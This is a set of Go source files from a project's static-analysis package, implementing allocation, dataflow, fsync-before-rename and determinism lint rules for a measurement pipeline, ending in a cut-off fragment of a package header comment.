func checkHotPathFunc(p *Package, fd *ast.FuncDecl, emit func(token.Pos, string, string)) {
	g := BuildCFG(fd.Body)
	reach := g.Reachable()
	name := fd.Name.Name
	for _, b := range g.Blocks {
		if !reach[b] {
			continue
		}
		for _, n := range b.Nodes {
			walkBlockNode(n, func(m ast.Node) bool {
				return inspectHotNode(p, name, m, emit)
			})
		}
	}
}

// inspectHotNode flags one allocating construct; returns false to prune.
func inspectHotNode(p *Package, fn string, n ast.Node, emit func(token.Pos, string, string)) bool {
	switch e := n.(type) {
	case *ast.FuncLit:
		if capturesOuter(p, e) {
			emit(e.Pos(), RuleHotPath,
				fn+" is //lint:hotpath but builds a capturing closure; each call allocates the captured environment — hoist the function or pass state as parameters")
		}
		// Either way the literal's body is not this function's path.
		return false

	case *ast.CompositeLit:
		tv, ok := p.Info.Types[e]
		if !ok {
			return true
		}
		switch tv.Type.Underlying().(type) {
		case *types.Map:
			emit(e.Pos(), RuleHotPath,
				fn+" is //lint:hotpath but builds a map literal, which allocates; hoist it to a package-level var or the caller")
			return false
		case *types.Slice:
			emit(e.Pos(), RuleHotPath,
				fn+" is //lint:hotpath but builds a slice literal, which allocates its backing array; use a fixed-size array or caller-provided storage")
			return false
		}
		return true

	case *ast.CallExpr:
		return inspectHotCall(p, fn, e, emit)

	case *ast.BinaryExpr:
		if e.Op == token.ADD {
			if tv, ok := p.Info.Types[e]; ok && isString(tv.Type) {
				emit(e.Pos(), RuleHotPath,
					fn+" is //lint:hotpath but concatenates strings, which allocates; write into a caller-provided byte slice instead")
			}
		}
		return true

	case *ast.AssignStmt:
		if e.Tok == token.ADD_ASSIGN && len(e.Lhs) == 1 {
			if tv, ok := p.Info.Types[e.Lhs[0]]; ok && isString(tv.Type) {
				emit(e.Pos(), RuleHotPath,
					fn+" is //lint:hotpath but concatenates strings, which allocates; write into a caller-provided byte slice instead")
			}
		}
		return true
	}
	return true
}

// inspectHotCall classifies call expressions: builtins that allocate,
// string conversions, and interface boxing at the call boundary.
func inspectHotCall(p *Package, fn string, call *ast.CallExpr, emit func(token.Pos, string, string)) bool {
	// Builtins.
	if id, ok := call.Fun.(*ast.Ident); ok {
		if b, ok := p.Info.Uses[id].(*types.Builtin); ok {
			switch b.Name() {
			case "append":
				emit(call.Pos(), RuleHotPath,
					fn+" is //lint:hotpath but calls append, which copies the backing array on growth; write into pre-sized caller or pooled storage")
			case "make":
				emit(call.Pos(), RuleHotPath,
					fn+" is //lint:hotpath but calls make, which allocates; hoist the allocation to the caller or a pool")
			case "new":
				emit(call.Pos(), RuleHotPath,
					fn+" is //lint:hotpath but calls new, which allocates; hoist the allocation to the caller or a pool")
			}
			return true
		}
	}
	// Conversions: string(b), []byte(s), []rune(s).
	if tv, ok := p.Info.Types[call.Fun]; ok && tv.IsType() && len(call.Args) == 1 {
		dst := tv.Type
		src := types.Type(nil)
		if atv, ok := p.Info.Types[call.Args[0]]; ok {
			src = atv.Type
		}
		if src != nil && stringBytesConversion(dst, src) {
			emit(call.Pos(), RuleHotPath,
				fn+" is //lint:hotpath but converts between string and bytes, which copies; keep the hot path on one representation")
		}
		return true
	}
	// Interface boxing: a concrete argument bound to an interface
	// parameter.
	if tv, ok := p.Info.Types[call.Fun]; ok {
		if sig, ok := tv.Type.Underlying().(*types.Signature); ok {
			checkBoxing(p, fn, call, sig, emit)
		}
	}
	return true
}

// checkBoxing flags concrete values passed to interface parameters.
func checkBoxing(p *Package, fn string, call *ast.CallExpr, sig *types.Signature, emit func(token.Pos, string, string)) {
	params := sig.Params()
	if params == nil {
		return
	}
	for i, arg := range call.Args {
		var pt types.Type
		switch {
		case sig.Variadic() && i >= params.Len()-1:
			last := params.At(params.Len() - 1).Type()
			if sl, ok := last.(*types.Slice); ok {
				pt = sl.Elem()
			}
		case i < params.Len():
			pt = params.At(i).Type()
		}
		if pt == nil {
			continue
		}
		if _, isIface := pt.Underlying().(*types.Interface); !isIface {
			continue
		}
		at, ok := p.Info.Types[arg]
		if !ok || at.Type == nil {
			continue
		}
		if _, argIface := at.Type.Underlying().(*types.Interface); argIface {
			continue // interface-to-interface, no boxing
		}
		if at.IsNil() {
			continue
		}
		emit(arg.Pos(), RuleHotPath,
			fn+" is //lint:hotpath but passes a concrete value to an interface parameter, which boxes (allocates) when it escapes; use a concrete-typed callee on the hot path")
	}
}

// stringBytesConversion reports a conversion that copies its operand.
func stringBytesConversion(dst, src types.Type) bool {
	toString := isString(dst)
	fromString := isString(src)
	if toString && (isByteSlice(src) || isRuneSlice(src)) {
		return true
	}
	if fromString && (isByteSlice(dst) || isRuneSlice(dst)) {
		return true
	}
	return false
}

func isByteSlice(t types.Type) bool {
	sl, ok := t.Underlying().(*types.Slice)
	if !ok {
		return false
	}
	b, ok := sl.Elem().Underlying().(*types.Basic)
	return ok && b.Kind() == types.Byte
}

func isRuneSlice(t types.Type) bool {
	sl, ok := t.Underlying().(*types.Slice)
	if !ok {
		return false
	}
	b, ok := sl.Elem().Underlying().(*types.Basic)
	return ok && b.Kind() == types.Rune
}

// capturesOuter reports whether lit references any variable declared
// outside its own body (a capturing closure).
func capturesOuter(p *Package, lit *ast.FuncLit) bool {
	captured := false
	ast.Inspect(lit.Body, func(n ast.Node) bool {
		if captured {
			return false
		}
		id, ok := n.(*ast.Ident)
		if !ok {
			return true
		}
		obj := p.Info.Uses[id]
		v, isVar := obj.(*types.Var)
		if !isVar || v.IsField() {
			return true
		}
		// Package-level variables are static, not captured.
		if v.Parent() == p.Types.Scope() {
			return true
		}
		if !within(v.Pos(), lit) {
			captured = true
		}
		return true
	})
	return captured
}

// ---- escape-analysis cross-check ----

// HotpathSpan is the source extent of one annotated function, for the
// -escape-log cross-check.
type HotpathSpan struct {
	File      string
	FuncName  string
	StartLine int
	EndLine   int
	Pos       token.Position
}

// HotpathSpans lists the //lint:hotpath functions of one package.
func HotpathSpans(p *Package) []HotpathSpan {
	var out []HotpathSpan
	for _, f := range p.Files {
		anns := hotpathAnnotations(p, f)
		for _, decl := range f.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Body == nil {
				continue
			}
			if _, ok := annotationFor(p, anns, fd); !ok {
				continue
			}
			start := p.Fset.Position(fd.Pos())
			end := p.Fset.Position(fd.End())
			out = append(out, HotpathSpan{
				File:      start.Filename,
				FuncName:  fd.Name.Name,
				StartLine: start.Line,
				EndLine:   end.Line,
				Pos:       start,
			})
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].File != out[j].File {
			return out[i].File < out[j].File
		}
		return out[i].StartLine < out[j].StartLine
	})
	return out
}

// CheckEscapeLog cross-checks the hotpath rule against the compiler's
// escape analysis: log is the stderr of `go build -gcflags=-m`, and any
// heap-allocation diagnostic ("escapes to heap", "moved to heap") whose
// position falls inside an annotated function is a finding — the
// compiler disagrees that the function is allocation-free. Informational
// diagnostics (inlining, leaking param, "does not escape") pass. Paths
// in the log are resolved relative to dir (the directory the build ran
// in).
func CheckEscapeLog(spans []HotpathSpan, log []byte, dir string) []Finding {
	var out []Finding
	for _, line := range strings.Split(string(log), "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		file, lineNo, col, msg, ok := parseDiagnostic(line)
		if !ok {
			continue
		}
		if !strings.Contains(msg, "escapes to heap") && !strings.Contains(msg, "moved to heap") {
			continue
		}
		// "x does not escape" contains neither marker; "escapes to heap"
		// lines always denote a heap allocation.
		for _, sp := range spans {
			if lineNo < sp.StartLine || lineNo > sp.EndLine {
				continue
			}
			if !sameFile(sp.File, file, dir) {
				continue
			}
			out = append(out, Finding{
				Pos:  token.Position{Filename: sp.File, Line: lineNo, Column: col},
				Rule: RuleHotPath,
				Msg:  "compiler escape analysis reports an allocation inside //lint:hotpath " + sp.FuncName + ": " + msg,
			})
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Pos.Filename != out[j].Pos.Filename {
			return out[i].Pos.Filename < out[j].Pos.Filename
		}
		if out[i].Pos.Line != out[j].Pos.Line {
			return out[i].Pos.Line < out[j].Pos.Line
		}
		return out[i].Msg < out[j].Msg
	})
	return out
}

// parseDiagnostic splits "path:line:col: msg" (column optional).
func parseDiagnostic(line string) (file string, lineNo, col int, msg string, ok bool) {
	// Find ": " separating position from message, scanning past the
	// path (which may contain colons on odd systems — take the last
	// plausible split).
	i := strings.Index(line, ": ")
	if i < 0 {
		return "", 0, 0, "", false
	}
	posPart, msgPart := line[:i], line[i+2:]
	parts := strings.Split(posPart, ":")
	if len(parts) < 2 {
		return "", 0, 0, "", false
	}
	// path:line or path:line:col
	n := len(parts)
	lineIdx := n - 1
	if n >= 3 {
		if c, err := atoiSafe(parts[n-1]); err == nil {
			if l, err2 := atoiSafe(parts[n-2]); err2 == nil {
				return strings.Join(parts[:n-2], ":"), l, c, msgPart, true
			}
		}
	}
	l, err := atoiSafe(parts[lineIdx])
	if err != nil {
		return "", 0, 0, "", false
	}
	return strings.Join(parts[:lineIdx], ":"), l, 0, msgPart, true
}

func atoiSafe(s string) (int, error) {
	n := 0
	if s == "" {
		return 0, errNotNumber
	}
	for _, c := range s {
		if c < '0' || c > '9' {
			return 0, errNotNumber
		}
		n = n*10 + int(c-'0')
	}
	return n, nil
}

var errNotNumber = errorString("not a number")

type errorString string

func (e errorString) Error() string { return string(e) }

// sameFile compares a span's absolute filename with a (possibly
// relative) diagnostic path.
func sameFile(spanFile, diagFile, dir string) bool {
	if spanFile == diagFile {
		return true
	}
	if dir != "" && !strings.HasPrefix(diagFile, "/") {
		return spanFile == dir+"/"+diagFile || strings.HasSuffix(spanFile, "/"+diagFile)
	}
	return strings.HasSuffix(spanFile, "/"+diagFile) || strings.HasSuffix(diagFile, "/"+spanFile)
}
