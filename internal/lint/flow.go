package lint

import (
	"go/ast"
	"go/types"
	"strconv"
)

// This file is the dataflow half of the analysis core: a forward worklist
// solver over per-block lattices, def-use chains resolved through
// go/types, and the expression-key machinery that lets lockcheck and
// atomichygiene name "the same location" across statements.

// flowState is one analyzer-defined lattice element. nil means ⊥
// (unreached).
type flowState interface{}

// flowProblem describes one forward dataflow analysis over a CFG.
type flowProblem struct {
	cfg *CFG
	// entry is the state on entry to cfg.Entry.
	entry flowState
	// transfer folds one block's nodes into the incoming state and
	// returns the outgoing state. It must not mutate in.
	transfer func(b *Block, in flowState) flowState
	// join merges two non-nil states (set union for may-analyses).
	join func(a, b flowState) flowState
	// equal reports lattice-element equality, for fixpoint detection.
	equal func(a, b flowState) bool
}

// solveForward runs the worklist to a fixpoint and returns each block's
// incoming state (nil for unreachable blocks). Iteration order is block
// creation order, so the result — and anything an analyzer emits during
// its final transfer pass — is deterministic.
func solveForward(p flowProblem) map[*Block]flowState {
	in := map[*Block]flowState{p.cfg.Entry: p.entry}
	// Round-robin to fixpoint: functions are small (tens of blocks), so
	// a priority worklist buys nothing over deterministic sweeps.
	for changed := true; changed; {
		changed = false
		for _, b := range p.cfg.Blocks {
			inB, ok := in[b]
			if !ok {
				continue
			}
			out := p.transfer(b, inB)
			for _, s := range b.Succs {
				old, seen := in[s]
				if !seen {
					in[s] = out
					changed = true
					continue
				}
				merged := p.join(old, out)
				if !p.equal(old, merged) {
					in[s] = merged
					changed = true
				}
			}
		}
	}
	return in
}

// ---- def-use chains ----

// defUse maps every variable object assigned inside one function to the
// expressions assigned to it, so analyzers can ask "does this value
// derive from X" without re-walking the tree per query.
type defUse struct {
	p *Package
	// defs collects, per object, every RHS expression assigned to it
	// (including := and var declarations with initializers). A nil entry
	// slot means an assignment from an untracked source (multi-value
	// call, range, channel receive).
	defs map[types.Object][]ast.Expr
}

// buildDefUse scans root (one function body) for assignments.
func buildDefUse(p *Package, root ast.Node) *defUse {
	d := &defUse{p: p, defs: map[types.Object][]ast.Expr{}}
	ast.Inspect(root, func(n ast.Node) bool {
		switch s := n.(type) {
		case *ast.AssignStmt:
			if len(s.Rhs) == len(s.Lhs) {
				for i, lhs := range s.Lhs {
					if obj := d.lhsObject(lhs); obj != nil {
						d.defs[obj] = append(d.defs[obj], s.Rhs[i])
					}
				}
			} else {
				// Multi-value: every target derives from the one RHS.
				for _, lhs := range s.Lhs {
					if obj := d.lhsObject(lhs); obj != nil {
						d.defs[obj] = append(d.defs[obj], s.Rhs[0])
					}
				}
			}
		case *ast.ValueSpec:
			for i, name := range s.Names {
				obj := d.p.Info.Defs[name]
				if obj == nil {
					continue
				}
				if i < len(s.Values) {
					d.defs[obj] = append(d.defs[obj], s.Values[i])
				} else if len(s.Values) == 1 {
					d.defs[obj] = append(d.defs[obj], s.Values[0])
				}
			}
		}
		return true
	})
	return d
}

// lhsObject resolves an assignment target to the object it writes, for
// plain identifier targets (x = ..., x := ...). Selector and index
// targets write through a base object; those are not tracked as defs.
func (d *defUse) lhsObject(lhs ast.Expr) types.Object {
	id, ok := lhs.(*ast.Ident)
	if !ok || id.Name == "_" {
		return nil
	}
	if obj := d.p.Info.Defs[id]; obj != nil {
		return obj
	}
	return d.p.Info.Uses[id]
}

// derives reports whether expr transitively derives from a value
// satisfying src: either expr itself satisfies src, or it mentions a
// variable one of whose definitions derives from src. The walk follows
// assignment chains through defs with cycle protection.
func (d *defUse) derives(expr ast.Expr, src func(ast.Expr) bool) bool {
	return d.derivesSeen(expr, src, map[types.Object]bool{})
}

func (d *defUse) derivesSeen(expr ast.Expr, src func(ast.Expr) bool, seen map[types.Object]bool) bool {
	found := false
	ast.Inspect(expr, func(n ast.Node) bool {
		if found {
			return false
		}
		if e, ok := n.(ast.Expr); ok && src(e) {
			found = true
			return false
		}
		if id, ok := n.(*ast.Ident); ok {
			obj := d.p.Info.Uses[id]
			if obj == nil || seen[obj] {
				return true
			}
			seen[obj] = true
			for _, def := range d.defs[obj] {
				if d.derivesSeen(def, src, seen) {
					found = true
					return false
				}
			}
		}
		return true
	})
	return found
}

// ---- location keys ----

// exprKey canonicalizes a lock or atomic-field access path — the receiver
// of mu.Lock(), the &field argument of atomic.AddUint64 — to a stable
// string, so two accesses to the same storage compare equal. Paths are
// rooted at a variable object (identified by declaration position, which
// is unique and deterministic); selector hops append field names; only
// constant indexes are allowed (a computed index may address different
// storage at each occurrence, so such paths are untrackable and the
// caller must skip them). The second result is false for untrackable
// expressions.
func exprKey(p *Package, e ast.Expr) (string, bool) {
	switch e := e.(type) {
	case *ast.Ident:
		obj := p.Info.Uses[e]
		if obj == nil {
			obj = p.Info.Defs[e]
		}
		if obj == nil {
			return "", false
		}
		return obj.Name() + "@" + strconv.Itoa(int(obj.Pos())), true
	case *ast.SelectorExpr:
		base, ok := exprKey(p, e.X)
		if !ok {
			return "", false
		}
		return base + "." + e.Sel.Name, true
	case *ast.ParenExpr:
		return exprKey(p, e.X)
	case *ast.StarExpr:
		// Dereference does not change the storage a path names for our
		// purposes: (*p).mu and p.mu are the same lock.
		return exprKey(p, e.X)
	case *ast.UnaryExpr:
		// &x names x's storage.
		return exprKey(p, e.X)
	case *ast.IndexExpr:
		base, ok := exprKey(p, e.X)
		if !ok {
			return "", false
		}
		if tv, okc := p.Info.Types[e.Index]; okc && tv.Value != nil {
			return base + "[" + tv.Value.ExactString() + "]", true
		}
		return "", false
	}
	return "", false
}

// exprText renders a short human-readable form of an access path for
// messages (best effort; falls back to "lock" for exotic shapes).
func exprText(e ast.Expr) string {
	switch e := e.(type) {
	case *ast.Ident:
		return e.Name
	case *ast.SelectorExpr:
		return exprText(e.X) + "." + e.Sel.Name
	case *ast.ParenExpr:
		return exprText(e.X)
	case *ast.StarExpr:
		return exprText(e.X)
	case *ast.UnaryExpr:
		return exprText(e.X)
	case *ast.IndexExpr:
		return exprText(e.X) + "[...]"
	case *ast.CallExpr:
		return exprText(e.Fun) + "()"
	}
	return "expr"
}

// ---- shared type queries ----

// namedIn reports whether t (after unwrapping pointers) is the named type
// pkg.name.
func namedIn(t types.Type, pkg, name string) bool {
	if ptr, ok := t.(*types.Pointer); ok {
		t = ptr.Elem()
	}
	named, ok := t.(*types.Named)
	if !ok {
		return false
	}
	obj := named.Obj()
	return obj.Pkg() != nil && obj.Pkg().Path() == pkg && obj.Name() == name
}

// pkgFuncCall reports whether call invokes pkgPath.name (a package-level
// function accessed through its package name) and returns the selector.
func pkgFuncCall(p *Package, call *ast.CallExpr, pkgPath string) (*ast.SelectorExpr, string, bool) {
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return nil, "", false
	}
	id, ok := sel.X.(*ast.Ident)
	if !ok {
		return nil, "", false
	}
	pn, ok := p.Info.Uses[id].(*types.PkgName)
	if !ok || pn.Imported().Path() != pkgPath {
		return nil, "", false
	}
	return sel, sel.Sel.Name, true
}

// funcScopes yields every function in the package — declarations and
// literals — with its body, so flow rules analyze closures as functions
// in their own right. decl is nil for literals; name is a best-effort
// display name.
type funcScope struct {
	decl *ast.FuncDecl
	lit  *ast.FuncLit
	name string
	body *ast.BlockStmt
}

func funcScopes(p *Package) []funcScope {
	var out []funcScope
	for _, f := range p.Files {
		for _, decl := range f.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Body == nil {
				continue
			}
			out = append(out, funcScope{decl: fd, name: fd.Name.Name, body: fd.Body})
			outer := fd.Name.Name
			ast.Inspect(fd.Body, func(n ast.Node) bool {
				if lit, ok := n.(*ast.FuncLit); ok {
					out = append(out, funcScope{lit: lit, name: outer + ".func", body: lit.Body})
				}
				return true
			})
		}
	}
	return out
}
