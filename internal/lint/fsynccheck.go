package lint

import (
	"go/ast"
	"go/token"
	"go/types"
)

// checkFsyncCheck enforces write-durability discipline in the packages
// that publish files by write-then-rename (Config.Durable — the
// checkpoint store). The whole crash-safety story rests on two facts
// the compiler cannot check: the bytes are on disk before the rename
// publishes them, and a failed close is observed rather than swallowed.
// Two halves:
//
//   - flow: an os.Rename call that no (*os.File).Sync() precedes on any
//     path through the function publishes a file the kernel may still
//     hold in its page cache — a crash right after the rename leaves
//     the new name pointing at torn or empty contents, which is exactly
//     the torn-snapshot state the rename was supposed to prevent. This
//     is a may-analysis: one synced inbound path is enough, because the
//     usual error-handling shape (`if _, err = f.Write(b); err == nil {
//     err = f.Sync() }` followed by an early return on err) filters the
//     unsynced paths through a value test the lattice cannot see. The
//     bug it catches — no Sync call before the rename at all — is the
//     one people actually write. A rename that legitimately needs no
//     sync (moving a file some other process made durable) takes a
//     //lint:allow.
//   - syntactic: a bare `f.Close()` statement — expression or defer —
//     on an *os.File discards the error that delivers deferred
//     write-back failures. For a written file that error is the last
//     chance to learn the data never hit the disk; check it, or
//     //lint:allow the call for read-only handles with nothing
//     buffered to lose.
func checkFsyncCheck(p *Package, cfg *Config, emit func(token.Pos, string, string)) {
	if !contains(cfg.Durable, p.Path) {
		return
	}
	for _, fs := range funcScopes(p) {
		checkFsyncFlow(p, fs, emit)
	}
	checkBareClose(p, emit)
}

// fsyncBits is the per-path possibility set: whether a Sync has (not)
// executed on some path into the current point.
type fsyncBits uint8

const (
	fsUnsynced fsyncBits = 1 << iota
	fsSynced
)

func fsyncJoin(a, b flowState) flowState { return a.(fsyncBits) | b.(fsyncBits) }
func fsyncEqual(a, b flowState) bool     { return a.(fsyncBits) == b.(fsyncBits) }

// checkFsyncFlow runs the sync-before-rename dataflow over one function.
func checkFsyncFlow(p *Package, fs funcScope, emit func(token.Pos, string, string)) {
	// Fast path: a function that never renames needs no analysis.
	if !mentionsRename(p, fs.body) {
		return
	}
	g := BuildCFG(fs.body)

	// The finding triggers on the ABSENCE of the synced bit, which is
	// not monotone under joins: an early solver iteration can see a
	// rename before the synced path has merged in. So the solve itself
	// is silent, and a final replay over the fixpoint in-states does
	// the reporting.
	transfer := func(report func(token.Pos)) func(b *Block, in flowState) flowState {
		return func(b *Block, in flowState) flowState {
			st := in.(fsyncBits)
			for _, n := range b.Nodes {
				walkBlockNode(n, func(m ast.Node) bool {
					if _, ok := m.(*ast.FuncLit); ok {
						return false // closures are analyzed as their own functions
					}
					call, ok := m.(*ast.CallExpr)
					if !ok {
						return true
					}
					if isOSFileMethod(p, call, "Sync") {
						st = fsSynced
						return true
					}
					if _, name, ok := pkgFuncCall(p, call, "os"); ok && name == "Rename" {
						if st&fsSynced == 0 && report != nil {
							report(call.Pos())
						}
					}
					return true
				})
			}
			return st
		}
	}

	in := solveForward(flowProblem{
		cfg:      g,
		entry:    fsUnsynced,
		transfer: transfer(nil),
		join:     fsyncJoin,
		equal:    fsyncEqual,
	})

	reported := map[token.Pos]bool{}
	replay := transfer(func(pos token.Pos) {
		if reported[pos] {
			return
		}
		reported[pos] = true
		emit(pos, RuleFsyncCheck,
			"os.Rename publishes a file with no preceding (*os.File).Sync() on any path; an unflushed rename can surface as a torn file after a crash — fsync before renaming")
	})
	for _, b := range g.Blocks {
		if st, ok := in[b]; ok {
			replay(b, st)
		}
	}
}

// mentionsRename is the cheap pre-filter.
func mentionsRename(p *Package, body *ast.BlockStmt) bool {
	found := false
	ast.Inspect(body, func(n ast.Node) bool {
		if found {
			return false
		}
		if call, ok := n.(*ast.CallExpr); ok {
			if _, name, ok := pkgFuncCall(p, call, "os"); ok && name == "Rename" {
				found = true
				return false
			}
		}
		return true
	})
	return found
}

// checkBareClose flags (*os.File).Close() calls whose error result is
// discarded: bare expression statements and defers.
func checkBareClose(p *Package, emit func(token.Pos, string, string)) {
	for _, f := range p.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			var call *ast.CallExpr
			switch s := n.(type) {
			case *ast.ExprStmt:
				call, _ = s.X.(*ast.CallExpr)
			case *ast.DeferStmt:
				call = s.Call
			}
			if call == nil || !isOSFileMethod(p, call, "Close") {
				return true
			}
			sel := call.Fun.(*ast.SelectorExpr)
			emit(call.Pos(), RuleFsyncCheck,
				exprText(sel.X)+".Close() discards its error; Close delivers deferred write-back failures, so an unchecked Close can silently publish lost writes — check it")
			return true
		})
	}
}

// isOSFileMethod reports whether call invokes the named method on an
// os.File receiver (directly or through a pointer).
func isOSFileMethod(p *Package, call *ast.CallExpr, name string) bool {
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok || sel.Sel.Name != name {
		return false
	}
	fn, ok := p.Info.Uses[sel.Sel].(*types.Func)
	if !ok || fn.Pkg() == nil || fn.Pkg().Path() != "os" {
		return false
	}
	sig, ok := fn.Type().(*types.Signature)
	if !ok || sig.Recv() == nil {
		return false
	}
	return namedIn(sig.Recv().Type(), "os", "File")
}
