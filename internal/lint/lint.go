// Package lint is the project's static-analysis pass: six analyzers
// that enforce the correctness contracts the measurement pipeline relies
// on but the compiler cannot check.
//
// The wildnet substitution (DESIGN.md) makes every table and figure a
// pure function of (seed, epoch). That contract survives only as long as
// no ambient state leaks into the measurement paths, which is exactly
// what these rules police:
//
//   - determinism: forbids time.Now, time.Since, and global math/rand
//     state in the seed-deterministic packages. Wall-clock reads and
//     process-seeded randomness make two runs with the same seed observe
//     different Internets.
//   - maporder: flags `for range` over a map whose body appends to an
//     outer slice without a later sort, writes rendered output, builds a
//     string, or leaks the iteration variables into outer state — the
//     patterns that make a report depend on Go's randomized map order.
//   - gohygiene: flags goroutines launched inside loops with no visible
//     join (WaitGroup-style counter or result channel) and no bound —
//     the shape that turns a 2^24-target scan into an unbounded
//     goroutine bomb.
//   - errdrop: flags discarded error returns from internal/dnswire
//     encode/decode and internal/zonefile parse calls, where a swallowed
//     malformed-packet error silently corrupts measurement counts.
//   - ctxhygiene: polices context propagation through the stage engine:
//     no context.Context struct fields, ctx always the first parameter,
//     and no context.Background()/TODO() roots outside cmd/ and tests.
//   - sleepcall: forbids raw time.Sleep/After/Tick/NewTimer/NewTicker —
//     delay must flow through the injected Clock seam so fake-clock
//     tests and the deterministic backoff schedule see every pause.
//
// Intentional exceptions are annotated in the source:
//
//	//lint:allow <rule> <reason>
//
// on the offending line or the line directly above it. An allow comment
// without a reason is itself a finding.
//
// The pass uses only the standard library (go/parser, go/ast, go/types);
// the module stays dependency-free.
package lint

import (
	"fmt"
	"go/ast"
	"go/token"
	"sort"
	"strings"
)

// Rule names, as they appear in findings and //lint:allow comments.
const (
	RuleDeterminism = "determinism"
	RuleMapOrder    = "maporder"
	RuleGoHygiene   = "gohygiene"
	RuleErrDrop     = "errdrop"
	RuleCtxHygiene  = "ctxhygiene"
	RuleSleepCall   = "sleepcall"
	// ruleAllow tags malformed //lint:allow comments themselves.
	ruleAllow = "allow"
)

// Finding is one reported violation.
type Finding struct {
	Pos  token.Position
	Rule string
	Msg  string
}

// String renders the canonical `file:line: [rule] message` form.
func (f Finding) String() string {
	return fmt.Sprintf("%s:%d: [%s] %s", f.Pos.Filename, f.Pos.Line, f.Rule, f.Msg)
}

// Config names the package sets each rule applies to. Paths are full
// import paths.
type Config struct {
	// ModulePath is the module being analyzed (for locating the dnswire
	// and zonefile packages the errdrop rule watches).
	ModulePath string
	// Deterministic lists the packages whose outputs must be pure
	// functions of (seed, epoch); the determinism rule applies here.
	Deterministic []string
	// Rendering lists the packages that produce tables, reports, and
	// result sets; the maporder rule applies here.
	Rendering []string
}

// DefaultConfig returns the repository's contract: which packages are
// seed-deterministic and which render results. DESIGN.md ("Determinism
// contract") documents the same sets.
func DefaultConfig(modulePath string) Config {
	ip := func(names ...string) []string {
		out := make([]string, len(names))
		for i, n := range names {
			out[i] = modulePath + "/internal/" + n
		}
		return out
	}
	return Config{
		ModulePath: modulePath,
		Deterministic: ip("wildnet", "prand", "lfsr", "cluster", "classify",
			"analysis", "churn", "scanner", "metrics"),
		Rendering: ip("analysis", "classify", "snoop", "churn", "scanner"),
	}
}

func contains(paths []string, p string) bool {
	for _, x := range paths {
		if x == p {
			return true
		}
	}
	return false
}

// Analyze runs every analyzer over one loaded package and returns the
// surviving findings sorted by position.
func (c *Config) Analyze(p *Package) []Finding {
	var raw []Finding
	emit := func(pos token.Pos, rule, msg string) {
		raw = append(raw, Finding{Pos: p.Fset.Position(pos), Rule: rule, Msg: msg})
	}
	checkDeterminism(p, c, emit)
	checkMapOrder(p, c, emit)
	checkGoHygiene(p, c, emit)
	checkErrDrop(p, c, emit)
	checkCtxHygiene(p, c, emit)
	checkSleepCall(p, c, emit)

	allows, bad := collectAllows(p)
	var out []Finding
	for _, f := range raw {
		if f.Rule != ruleAllow && allows.covers(f.Pos, f.Rule) {
			continue
		}
		out = append(out, f)
	}
	out = append(out, bad...)
	sort.Slice(out, func(i, j int) bool {
		if out[i].Pos.Filename != out[j].Pos.Filename {
			return out[i].Pos.Filename < out[j].Pos.Filename
		}
		if out[i].Pos.Line != out[j].Pos.Line {
			return out[i].Pos.Line < out[j].Pos.Line
		}
		return out[i].Rule < out[j].Rule
	})
	// A multi-assign statement can trip the same rule once per operand;
	// one report per line and rule is enough.
	dedup := out[:0]
	for i, f := range out {
		if i > 0 && f.Pos.Filename == out[i-1].Pos.Filename &&
			f.Pos.Line == out[i-1].Pos.Line && f.Rule == out[i-1].Rule {
			continue
		}
		dedup = append(dedup, f)
	}
	return dedup
}

// allowSet maps file -> line -> rules allowed on that line.
type allowSet map[string]map[int][]string

// covers reports whether an allow for rule sits on the finding's line or
// the line directly above it.
func (a allowSet) covers(pos token.Position, rule string) bool {
	lines := a[pos.Filename]
	for _, l := range []int{pos.Line, pos.Line - 1} {
		for _, r := range lines[l] {
			if r == rule {
				return true
			}
		}
	}
	return false
}

// collectAllows parses every //lint:allow comment in the package.
// Malformed comments (missing rule or reason) come back as findings so
// the escape hatch cannot silently rot.
func collectAllows(p *Package) (allowSet, []Finding) {
	set := allowSet{}
	var bad []Finding
	for _, file := range p.Files {
		for _, cg := range file.Comments {
			for _, c := range cg.List {
				text, ok := strings.CutPrefix(c.Text, "//lint:allow")
				if !ok {
					continue
				}
				pos := p.Fset.Position(c.Pos())
				fields := strings.Fields(text)
				if len(fields) < 2 {
					bad = append(bad, Finding{Pos: pos, Rule: ruleAllow,
						Msg: "malformed //lint:allow: need a rule name and a reason"})
					continue
				}
				m := set[pos.Filename]
				if m == nil {
					m = map[int][]string{}
					set[pos.Filename] = m
				}
				m[pos.Line] = append(m[pos.Line], fields[0])
			}
		}
	}
	return set, bad
}

// inspectStack walks root calling fn with each node and its ancestor
// chain (root first, node last). Returning false prunes the subtree.
func inspectStack(root ast.Node, fn func(n ast.Node, stack []ast.Node) bool) {
	var stack []ast.Node
	ast.Inspect(root, func(n ast.Node) bool {
		if n == nil {
			stack = stack[:len(stack)-1]
			return true
		}
		stack = append(stack, n)
		if !fn(n, stack) {
			stack = stack[:len(stack)-1]
			return false
		}
		return true
	})
}

// enclosing returns the innermost node of kind K on the stack strictly
// above the last element.
func enclosingLoop(stack []ast.Node) ast.Stmt {
	for i := len(stack) - 2; i >= 0; i-- {
		switch s := stack[i].(type) {
		case *ast.ForStmt:
			return s
		case *ast.RangeStmt:
			return s
		case *ast.FuncLit, *ast.FuncDecl:
			// A loop outside the nearest function doesn't iterate this
			// statement.
			return nil
		}
	}
	return nil
}

// enclosingFuncBody returns the body of the innermost function containing
// the last stack element.
func enclosingFuncBody(stack []ast.Node) *ast.BlockStmt {
	for i := len(stack) - 2; i >= 0; i-- {
		switch f := stack[i].(type) {
		case *ast.FuncLit:
			return f.Body
		case *ast.FuncDecl:
			return f.Body
		}
	}
	return nil
}

// within reports whether pos falls inside node's source range.
func within(pos token.Pos, node ast.Node) bool {
	return node != nil && node.Pos() <= pos && pos <= node.End()
}
