// Package lint is the project's static-analysis pass: eleven analyzers
// that enforce the correctness contracts the measurement pipeline relies
// on but the compiler cannot check. Six are syntactic; five are
// flow-sensitive, built on the CFG and dataflow core in cfg.go/flow.go.
//
// The wildnet substitution (DESIGN.md) makes every table and figure a
// pure function of (seed, epoch). That contract survives only as long as
// no ambient state leaks into the measurement paths, which is exactly
// what these rules police:
//
